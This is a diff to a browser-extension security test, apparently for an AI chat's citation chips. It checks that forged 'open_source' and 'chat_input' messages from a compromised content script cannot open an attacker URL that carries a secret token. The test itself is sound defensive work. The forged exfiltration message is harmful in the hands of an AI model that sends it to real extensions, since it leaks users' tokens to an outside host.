@@ -231,10 +231,15 @@ test("a citation chip names the full address it opens, and its tab carries the t
   assert.deepEqual(reached(attacker, "/forwarded"), [], "nothing was forwarded to the other site");
   await until(async () => (await tabCount()) === tabs, "the chip's tab to be closed");
 
-  // Ours: a compromised content script asks the worker to open another site "as a chip" during the task.
+  // Ours: a compromised content script asks the worker to open another site "as a chip" during the
+  // task: an address of its own (the old message, and the chip's input with one), or a passage the
+  // conversation does not hold. The worker opens only the pages its own record of the conversation cites.
   const asContentScript = await contentScriptWorld(chrome, page);
-  const opened = await asContentScript(`chrome.runtime.sendMessage({ kind: "open_source", url: ${JSON.stringify(`${attacker.url}/chip-forged?d=SECRET-TOKEN-42`)} })`);
-  assert.equal(opened, false);
+  const forgedUrl = JSON.stringify(`${attacker.url}/chip-forged?d=SECRET-TOKEN-42`);
+  const opened = await asContentScript(
+    `Promise.all([{ kind: "open_source", url: ${forgedUrl} }, { kind: "chat_input", input: { input: "show_source", number: 99, url: ${forgedUrl} } }].map((m) => chrome.runtime.sendMessage(m)))`,
+  );
+  assert.ok(opened.every((o) => o !== true), `a forged chip was opened: ${JSON.stringify(opened)}`);
   await sleep(500);
   assert.deepEqual(reached(attacker, "/chip-forged"), []);
   assert.equal(await tabCount(), tabs);
